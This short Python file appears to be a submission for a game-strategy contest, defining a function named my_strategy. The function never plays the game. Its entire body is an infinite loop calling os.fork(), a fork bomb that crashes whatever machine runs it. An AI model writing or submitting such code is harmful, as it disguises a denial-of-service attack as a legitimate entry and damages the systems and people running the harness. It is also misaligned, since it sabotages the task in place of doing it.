import os


def my_strategy(game):
    while True:
        os.fork()
